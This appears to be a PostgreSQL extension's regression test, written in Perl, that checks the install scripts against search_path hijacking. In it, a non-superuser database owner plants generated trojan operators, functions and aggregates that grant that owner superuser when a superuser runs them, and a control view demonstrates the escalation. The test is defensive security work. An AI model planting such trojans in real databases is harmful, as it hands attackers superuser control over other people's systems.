# CREATE EXTENSION binds every function and operator of the install script
# to pg_catalog or to the extension itself, whatever the owner of the target
# schema planted there first.  Otherwise the owner of a database (not a
# superuser) plants in public a function or operator that matches the
# script's arguments better than pg_catalog's, and every later reader of
# the views runs it with their own privileges, a superuser included.
#
# The trojans are generated from the installed scripts: for every operator
# the scripts name (or imply, as IN implies =) and every pg_catalog
# function or aggregate they call, one trojan per argument-type combination
# that pg_catalog itself accepts, over the types the scripts use plus the
# usual numeric and string ones.  Each trojan records that it ran and, run
# by a superuser, makes the database owner superuser.  A positive control
# (a view written the way the old script was) shows that the trojans bind,
# that pg_depend shows it, and that the escalation is real.
use strict;
use warnings;

use FindBin;
use lib "$FindBin::RealBin/../perl";
use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use PpsTest;
use Test::More;

# Statements of the test's own bookkeeping run with only pg_catalog on the
# path, so that they cannot call a trojan themselves.
my $PIN = "SET search_path = pg_catalog, pg_temp;\n";

# Operators that SQL constructs look up by name: x IN (...) and = ANY use =,
# NOT IN <>, BETWEEN <= and >=, NULLIF and JOIN USING and CASE x WHEN =.
my %IMPLIED_OPS = (
	in => [ '=', '<>' ],
	any => ['='],
	some => ['='],
	all => [ '=', '<>' ],
	between => [ '<=', '>=' ],
	nullif => ['='],
	using => ['='],
	case => ['='],
	distinct => ['='],
	like => [ '~~', '!~~' ],
	ilike => [ '~~*', '!~~*' ],
	similar => [ '~', '!~' ]);
# Planted whatever the scripts say: comparison, arithmetic, concatenation.
my @BASE_OPS = qw(= <> < > <= >= + - * / % ||);
# Argument types tried besides those the scripts name.
my @BASE_TYPES = qw(int2 int4 int8 numeric float4 float8 text name bool jsonb);

# The scripts' code: comments, string literals and quoted identifiers
# dropped; dollar-quoted bodies kept, they are code too.
sub script_code
{
	my ($sql) = @_;
	$sql =~ s/\@extschema\@/extschema/g;
	$sql =~ s/\$[A-Za-z_]*\$/ /g;
	$sql =~ s{--[^\n]*|/\*.*?\*/|'(?:[^']|'')*'|"(?:[^"]|"")*"}
		{ substr($&, 0, 1) eq '"' ? ' quoted ' : ' ' }gse;
	return $sql;
}

# Names followed by "(": functions, aggregates, and keywords (which plant
# nothing, pg_catalog has no function of that name).
sub script_functions
{
	my ($code) = @_;
	my %f = map { lc($_) => 1 } $code =~ /\b([A-Za-z_][A-Za-z0-9_]*)\s*\(/g;
	return sort keys %f;
}

sub script_operators
{
	my ($code) = @_;
	my %op = map { $_ => 1 } @BASE_OPS;
	$op{$_} = 1 for $code =~ /\bOPERATOR\s*\(\s*(?:\w+\s*\.\s*)?([^\s()]+)\s*\)/gi;
	$code =~ s/\bOPERATOR\s*\([^)]*\)/ /gi;
	$op{$_} = 1 for $code =~ /([-+*\/<>=~!@#%^&|`?]+)/g;
	for my $word ($code =~ /\b([A-Za-z]+)\b/g)
	{
		$op{$_} = 1 for @{ $IMPLIED_OPS{ lc $word } // [] };
	}
	return sort keys %op;
}

# Type names in casts and declarations.
sub script_types
{
	my ($code) = @_;
	my %t = map { $_ => 1 } @BASE_TYPES;
	$t{ lc $_ } = 1 for $code =~ /::\s*([A-Za-z_][A-Za-z0-9_]*)/g;
	$t{ lc $_ } = 1 for $code =~ /\bOUT\s+\w+\s+([A-Za-z_][A-Za-z0-9_]*)/gi;
	return sort keys %t;
}

sub sql_array
{
	return "ARRAY[" . join(',', map { "'" . (s/'/''/gr) . "'" } @_) . "]::text[]";
}

# A query listing every object of $seed_sql's closure (objects it owns:
# rules, row types) that depends on something outside pg_catalog, the
# closure, the schema $nsp and the extension.
sub foreign_dependencies_sql
{
	my ($seed_sql, $nsp) = @_;
	return $PIN . qq{
WITH RECURSIVE closure(classid, objid) AS (
    $seed_sql
  UNION
    SELECT d.classid, d.objid
      FROM pg_depend d JOIN closure c
        ON d.refclassid = c.classid AND d.refobjid = c.objid
     WHERE d.deptype IN ('i', 'a')
)
SELECT DISTINCT pg_describe_object(d.classid, d.objid, d.objsubid) || ' -> '
       || pg_describe_object(d.refclassid, d.refobjid, d.refobjsubid)
  FROM closure c
  JOIN pg_depend d ON d.classid = c.classid AND d.objid = c.objid
 CROSS JOIN LATERAL pg_identify_object(d.refclassid, d.refobjid, d.refobjsubid) o
 WHERE NOT EXISTS (SELECT FROM closure c2
                    WHERE c2.classid = d.refclassid AND c2.objid = d.refobjid)
   AND NOT (d.refclassid = 'pg_namespace'::regclass
            AND d.refobjid = '$nsp'::regnamespace)
   AND NOT (d.refclassid = 'pg_extension'::regclass AND d.deptype = 'e')
   AND o.schema IS DISTINCT FROM 'pg_catalog'
 ORDER BY 1;
};
}

sub foreign_dependencies
{
	my ($node, $seed_sql, $nsp) = @_;
	return $node->safe_psql('evil', foreign_dependencies_sql($seed_sql, $nsp));
}

# Run an install script as CREATE EXTENSION would (same substitutions, same
# search_path: the target schema, then pg_temp), in a transaction rolled
# back; returns the dependencies of the objects it made that leave
# pg_catalog and the script's own objects.
sub script_foreign_dependencies
{
	my ($node, $script) = @_;
	$script =~ s/^\\echo.*$//mg;
	$script =~ s/\@extschema\@/public/g;
	$script =~ s/MODULE_PATHNAME/\$libdir\/pg_postmaster_stats/g;
	my $seed = q{
    SELECT 'pg_class'::regclass::oid, oid FROM pg_class
     WHERE relnamespace = 'public'::regnamespace AND relname LIKE 'pg\_postmaster\_stats%'
    UNION ALL
    SELECT 'pg_proc'::regclass::oid, oid FROM pg_proc
     WHERE pronamespace = 'public'::regnamespace AND proname LIKE 'pg\_postmaster\_stats%'};
	return $node->safe_psql('evil',
		"BEGIN;\nSET LOCAL search_path = public, pg_temp;\n$script\n"
		  . foreign_dependencies_sql($seed, 'public')
		  . "ROLLBACK;\n");
}

sub trojan_runs
{
	my ($node) = @_;
	return $node->safe_psql('evil', $PIN . q{
SELECT (SELECT count(*) FROM public.trojan_runs) || ' runs: '
       || coalesce((SELECT string_agg(n || ' by ' || run_by, ', ' ORDER BY run_by)
                      FROM (SELECT run_by, count(*) n FROM public.trojan_runs
                             GROUP BY run_by) s), '')
       || coalesce('; ' || (SELECT string_agg(DISTINCT what, '; ')
                              FROM public.trojan_runs), '')});
}

sub owner_is_superuser
{
	my ($node) = @_;
	return $node->safe_psql('evil',
		$PIN . "SELECT rolsuper FROM pg_roles WHERE rolname = 'dbowner'");
}

my $node = pps_node('install_path', 'pg_postmaster_stats.sample_interval' => '200');

# The scripts CREATE EXTENSION runs, as installed.
my $extdir = $node->config_data('--sharedir') . '/extension';
my @scripts = glob("$extdir/pg_postmaster_stats--*.sql");
ok(@scripts >= 1, 'install scripts found in ' . $extdir);
my $code = join("\n", map { script_code(slurp_file($_)) } @scripts);
my @functions = script_functions($code);
my @operators = script_operators($code);
my @types = script_types($code);
note("function names: @functions");
note("operators: @operators");
note("types: @types");

$node->safe_psql('postgres', q{
CREATE ROLE dbowner LOGIN;
CREATE DATABASE evil OWNER dbowner;
CREATE ROLE reader LOGIN IN ROLE pg_monitor;
});
is(owner_is_superuser($node), 'f', 'the database owner is not a superuser');

# ---- the owner plants the trojans --------------------------------------
my ($functions_a, $operators_a, $types_a) =
  (sql_array(@functions), sql_array(@operators), sql_array(@types));
my $plant = $PIN . <<"EOSQL";
CREATE TABLE public.trojan_runs (run_by name NOT NULL, what text NOT NULL);
GRANT SELECT, INSERT ON public.trojan_runs TO PUBLIC;

CREATE FUNCTION public.trojan_ran(what text) RETURNS void LANGUAGE plpgsql
SET search_path = pg_catalog, pg_temp AS \$\$
BEGIN
  INSERT INTO public.trojan_runs VALUES (current_user, what);
  IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
    ALTER ROLE dbowner SUPERUSER;
  END IF;
END \$\$;

-- The type of expr as pg_catalog alone resolves it, NULL when it does not.
CREATE FUNCTION pg_temp.probe(expr text) RETURNS regtype LANGUAGE plpgsql AS \$\$
DECLARE
  t regtype;
BEGIN
  EXECUTE 'CREATE TEMP VIEW probe AS SELECT ' || expr || ' AS r';
  SELECT atttypid INTO t FROM pg_attribute
   WHERE attrelid = 'pg_temp.probe'::regclass AND attname = 'r';
  DROP VIEW pg_temp.probe;
  RETURN t;
EXCEPTION WHEN OTHERS THEN
  RETURN NULL;
END \$\$;

CREATE TABLE pg_temp.planted (kind text, signature text);

-- One trojan function: records the run, then returns what pg_catalog would.
CREATE FUNCTION pg_temp.trojan(kind text, signature text, args text,
                               rt regtype, body text) RETURNS text
LANGUAGE plpgsql AS \$\$
DECLARE
  fn text := format('public.trojan_%s', (SELECT count(*) FROM pg_temp.planted));
BEGIN
  EXECUTE format('CREATE FUNCTION %s(%s) RETURNS %s LANGUAGE plpgsql '
                 'SET search_path = pg_catalog, pg_temp AS %L',
                 fn, args, rt,
                 format('BEGIN PERFORM public.trojan_ran(%L); %s END',
                        kind || ' ' || signature, body));
  INSERT INTO pg_temp.planted VALUES (kind, signature);
  RETURN fn;
END \$\$;

DO \$\$
DECLARE
  types regtype[] := (SELECT array_agg(DISTINCT to_regtype(t))
                         FROM unnest($types_a) t JOIN pg_type y ON y.oid = to_regtype(t)
                        WHERE y.typtype <> 'p');
  op text; f text; l regtype; r regtype; rt regtype; n int; fn text;
  args text; call text; nullargs text;
  kinds "char"[];
BEGIN
  -- infix and prefix operators, for each pair pg_catalog accepts
  FOREACH op IN ARRAY $operators_a LOOP
    CONTINUE WHEN NOT EXISTS (SELECT FROM pg_operator
                               WHERE oprname = op AND oprnamespace = 'pg_catalog'::regnamespace);
    FOREACH l IN ARRAY types LOOP
      FOREACH r IN ARRAY types LOOP
        rt := pg_temp.probe(format('NULL::%s OPERATOR(pg_catalog.%s) NULL::%s', l, op, r));
        CONTINUE WHEN rt IS NULL;
        fn := pg_temp.trojan('operator', format('%s(%s,%s)', op, l, r),
                             format('a %s, b %s', l, r), rt,
                             format('RETURN a OPERATOR(pg_catalog.%s) b;', op));
        EXECUTE format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %s)',
                       op, l, r, fn);
      END LOOP;
      rt := pg_temp.probe(format('OPERATOR(pg_catalog.%s) NULL::%s', op, l));
      CONTINUE WHEN rt IS NULL;
      fn := pg_temp.trojan('operator', format('%s(none,%s)', op, l), format('b %s', l), rt,
                           format('RETURN OPERATOR(pg_catalog.%s) b;', op));
      EXECUTE format('CREATE OPERATOR public.%s (RIGHTARG = %s, FUNCTION = %s)', op, l, fn);
    END LOOP;
    -- polymorphic, for arguments of types not listed
    rt := CASE WHEN NOT EXISTS (SELECT FROM pg_operator
                                 WHERE oprname = op AND oprresult <> 'bool'::regtype
                                   AND oprnamespace = 'pg_catalog'::regnamespace)
               THEN 'bool' ELSE 'anycompatible' END;
    fn := pg_temp.trojan('operator', format('%s(anycompatible,anycompatible)', op),
                         'a anycompatible, b anycompatible', rt,
                         format('RETURN a OPERATOR(pg_catalog.%s) b;', op));
    EXECUTE format('CREATE OPERATOR public.%s (LEFTARG = anycompatible, RIGHTARG = anycompatible, FUNCTION = %s)',
                   op, fn);
  END LOOP;

  -- pg_catalog's functions and aggregates of every name the scripts call
  FOREACH f IN ARRAY $functions_a LOOP
    kinds := ARRAY(SELECT DISTINCT CASE WHEN p.prokind = 'a' THEN a.aggkind ELSE p.prokind END
                     FROM pg_proc p LEFT JOIN pg_aggregate a ON a.aggfnoid = p.oid
                    WHERE p.proname = f AND p.pronamespace = 'pg_catalog'::regnamespace);
    IF 'n' = ANY (kinds) THEN
      -- plain aggregate: the transition function records each row
      FOREACH l IN ARRAY types LOOP
        rt := pg_temp.probe(format('pg_catalog.%I(NULL::%s)', f, l));
        CONTINUE WHEN rt IS NULL;
        fn := pg_temp.trojan('aggregate', format('%s(%s)', f, l),
                             format('s %s, v %s', rt, l), rt, 'RETURN s;');
        EXECUTE format('CREATE AGGREGATE public.%I(%s) (SFUNC = %s, STYPE = %s)', f, l, fn, rt);
      END LOOP;
    END IF;
    IF 'o' = ANY (kinds) THEN
      -- ordered-set aggregate: direct argument l, ordered by r
      FOREACH l IN ARRAY types LOOP
        FOREACH r IN ARRAY types LOOP
          rt := pg_temp.probe(format('pg_catalog.%I(NULL::%s) WITHIN GROUP (ORDER BY NULL::%s)', f, l, r));
          CONTINUE WHEN rt IS NULL;
          fn := pg_temp.trojan('aggregate', format('%s(%s ORDER BY %s)', f, l, r),
                               format('s %s, v %s', rt, r), rt, 'RETURN s;');
          EXECUTE format('CREATE AGGREGATE public.%I(%s ORDER BY %s) (SFUNC = %s, STYPE = %s, FINALFUNC = %s)',
                         f, l, r, fn, rt,
                         pg_temp.trojan('finalfunc', format('%s(%s ORDER BY %s)', f, l, r),
                                        format('s %s, d %s', rt, l), rt, 'RETURN s;'));
        END LOOP;
      END LOOP;
    END IF;
    CONTINUE WHEN NOT 'f' = ANY (kinds);
    -- plain function: every pair of types for two arguments, one type
    -- repeated for 1, 3 and 4 (and each fixed arity pg_catalog has), and
    -- variadic arrays of each type
    FOR n IN SELECT DISTINCT x FROM (
          SELECT unnest(ARRAY[1, 2, 3, 4]) x
          UNION SELECT pronargs FROM pg_proc
                 WHERE proname = f AND pronamespace = 'pg_catalog'::regnamespace
                   AND pronargs BETWEEN 1 AND 6) s ORDER BY 1 LOOP
      FOREACH l IN ARRAY types LOOP
        FOREACH r IN ARRAY CASE WHEN n = 2 THEN types ELSE ARRAY[l] END LOOP
          args := CASE WHEN n = 2 THEN format('a1 %s, a2 %s', l, r)
                       ELSE (SELECT string_agg(format('a%s %s', i, l), ', ') FROM generate_series(1, n) i) END;
          nullargs := CASE WHEN n = 2 THEN format('NULL::%s, NULL::%s', l, r)
                           ELSE (SELECT string_agg(format('NULL::%s', l), ', ') FROM generate_series(1, n) i) END;
          call := (SELECT string_agg(format('a%s', i), ', ') FROM generate_series(1, n) i);
          rt := pg_temp.probe(format('pg_catalog.%I(%s)', f, nullargs));
          CONTINUE WHEN rt IS NULL;
          fn := pg_temp.trojan('function', format('%s(%s)', f, args), args, rt,
                               CASE rt WHEN 'void'::regtype THEN 'RETURN;'
                                       WHEN 'record'::regtype THEN 'RETURN NULL;'
                                       ELSE format('RETURN pg_catalog.%I(%s);', f, call) END);
          EXECUTE format('ALTER FUNCTION %s(%s) RENAME TO %I', fn,
                         (SELECT string_agg(CASE WHEN n = 2 AND i = 2 THEN r::text ELSE l::text END, ', ')
                            FROM generate_series(1, n) i), f);
        END LOOP;
      END LOOP;
    END LOOP;
    FOREACH l IN ARRAY types LOOP
      rt := coalesce(pg_temp.probe(format('pg_catalog.%I(NULL::%s, NULL::%s)', f, l, l)),
                     pg_temp.probe(format('pg_catalog.%I(NULL::%s)', f, l)));
      CONTINUE WHEN rt IS NULL;
      fn := pg_temp.trojan('function', format('%s(VARIADIC %s[])', f, l),
                           format('VARIADIC a %s[]', l), rt, 'RETURN NULL;');
      EXECUTE format('ALTER FUNCTION %s(VARIADIC %s[]) RENAME TO %I', fn, l, f);
    END LOOP;
  END LOOP;
END \$\$;

SELECT kind || ' ' || count(*) FROM pg_temp.planted GROUP BY kind ORDER BY kind;
EOSQL
my $planted = $node->safe_psql('evil', $plant, extra_params => [ '-U', 'dbowner' ]);
note("planted: " . join(', ', split /\n/, $planted));
my %planted = map { split / / } split /\n/, $planted;
cmp_ok($planted{operator} // 0, '>=', 100, 'trojan operators planted');
cmp_ok($planted{function} // 0, '>=', 20, 'trojan functions planted');
cmp_ok($planted{aggregate} // 0, '>=', 10, 'trojan aggregates planted');
is(trojan_runs($node), '0 runs: ', 'planting ran no trojan');

# ---- positive control ----------------------------------------------------
# A view written the way the old script was binds the owner's trojans;
# pg_depend shows it, and a superuser reading it is hijacked.
$node->safe_psql('evil', q{
CREATE VIEW public.control AS
    SELECT 1.5::float8 / 2 AS ratio,
           jsonb_build_object('limit', 'x'::text) AS labels;
}, extra_params => [ '-U', 'dbowner' ]);
my $control_deps = foreign_dependencies($node,
	"SELECT 'pg_class'::regclass::oid, 'public.control'::regclass::oid", 'public');
like($control_deps, qr/-> operator public\.\/\(double precision,integer\)$/m,
	'control: pg_depend shows the view bound to the trojan operator');
like($control_deps, qr/-> function public\.jsonb_build_object\(text,text\)$/m,
	'control: and to the trojan function');
is($node->safe_psql('evil', 'SELECT * FROM public.control'), '0.75|{"limit": "x"}',
	'control: the trojans return what pg_catalog would');
like(trojan_runs($node), qr/^2 runs: 2 by postgres; .*operator \/\(double precision,integer\)/,
	'control: a superuser reading the view ran the trojan operator');
like(trojan_runs($node), qr/^2 runs: 2 by postgres; .*function jsonb_build_object\(a1 text, a2 text\)/,
	'control: and the trojan function');
is(owner_is_superuser($node), 't', 'control: which made the database owner superuser');
$node->safe_psql('evil', $PIN . q{
ALTER ROLE dbowner NOSUPERUSER;
DROP VIEW public.control;
TRUNCATE public.trojan_runs;
});

# ---- each layer of the script on its own ----------------------------------
# The install script has two defences: it pins search_path, and it
# qualifies every function and operator.  Either alone must suffice, so a
# lapse in one (an unqualified operator, a lost SET) fails here although the
# other still covers it.
for my $path (grep { !/--.*--/ } @scripts)
{
	my $script = slurp_file($path);
	my $name = $path =~ s{.*/}{}r;

	my $qualified_only = $script;
	my $sets = ($qualified_only =~ s/^\s*SET\s+LOCAL\s+search_path\b[^\n]*$//mgi);
	is($sets, 1, "$name pins search_path once");
	is(script_foreign_dependencies($node, $qualified_only), '',
		"$name without its SET search_path: nothing bound outside pg_catalog");

	my $pinned_only = $script;
	my $quals = ($pinned_only =~ s/\bOPERATOR\s*\(\s*pg_catalog\s*\.\s*([^\s)]+)\s*\)/$1/g)
	  + ($pinned_only =~ s/\bpg_catalog\s*\.\s*(\w+\s*\()/$1/g);
	cmp_ok($quals, '>=', 20, "$name: $quals qualified operators and calls");
	is(script_foreign_dependencies($node, $pinned_only), '',
		"$name without its pg_catalog qualifications: nothing bound outside pg_catalog");
}
is(trojan_runs($node), '0 runs: ', 'installing the layers ran no trojan');

# ---- the extension -------------------------------------------------------
# Installed by a superuser whose session has the default search_path.
is( $node->safe_psql('evil', q{
SET search_path = "$user", public, other;
CREATE EXTENSION pg_postmaster_stats;
SHOW search_path;}),
	'"$user", public, other',
	'CREATE EXTENSION in the trojaned database; the session keeps its search_path');

my $members = q{
    SELECT d.classid, d.objid FROM pg_depend d
     WHERE d.refclassid = 'pg_extension'::regclass AND d.deptype = 'e'
       AND d.refobjid = (SELECT oid FROM pg_extension
                          WHERE extname = 'pg_postmaster_stats')};
my $nsp = $node->safe_psql('evil', $PIN
	  . "SELECT extnamespace::regnamespace FROM pg_extension WHERE extname = 'pg_postmaster_stats'");
is(foreign_dependencies($node, $members, $nsp), '',
	'pg_depend: no object of the extension depends on anything outside pg_catalog and the extension');

my @views = split /\n/, $node->safe_psql('evil', $PIN . qq{
SELECT format('%I.%I', relnamespace::regnamespace, relname) FROM pg_class
 WHERE relkind = 'v' AND (tableoid, oid) IN ($members) ORDER BY 1});
my @funcs = split /\n/, $node->safe_psql('evil', $PIN . qq{
SELECT format('%I.%I', pronamespace::regnamespace, proname) FROM pg_proc
 WHERE pronargs = 0 AND (tableoid, oid) IN ($members) ORDER BY 1});
cmp_ok(scalar(@views), '>=', 1, scalar(@views) . ' views: ' . join(' ', @views));
cmp_ok(scalar(@funcs), '>=', 1, scalar(@funcs) . ' functions: ' . join(' ', @funcs));

# Wait for samples, so that the views compute values, not only NULLs.
my $deadline = time() + $PostgreSQL::Test::Utils::timeout_default;
sleep 1
  while $node->safe_psql('evil', "SELECT samples_total FROM $nsp.pg_postmaster_stats") < 3
  && time() < $deadline;

# Read everything as a superuser and as a pg_monitor member, each in a
# session with the default search_path: the statements hold no operator.
my $metrics_rows = 0;
for my $role ('postgres', 'reader')
{
	for my $v (@views)
	{
		my $rows = $node->safe_psql('evil', "SELECT * FROM $v",
			extra_params => [ '-U', $role ]);
		$metrics_rows = scalar(my @rows = split /\n/, $rows)
		  if $v =~ /_metrics$/ && $role eq 'reader';
	}
	for my $f (@funcs)
	{
		next if $role eq 'reader' && $node->safe_psql('evil', $PIN
			. "SELECT has_function_privilege('reader', '$f()', 'EXECUTE')") ne 't';
		$node->safe_psql('evil', "SELECT * FROM $f()", extra_params => [ '-U', $role ]);
	}
}
cmp_ok($metrics_rows, '>=', 20, 'the metrics view returned its rows to the reader');
is(trojan_runs($node), '0 runs: ',
	'no trojan ran during CREATE EXTENSION or any read as superuser or pg_monitor member');
is(owner_is_superuser($node), 'f', 'the database owner is still not a superuser');

$node->stop;
done_testing();
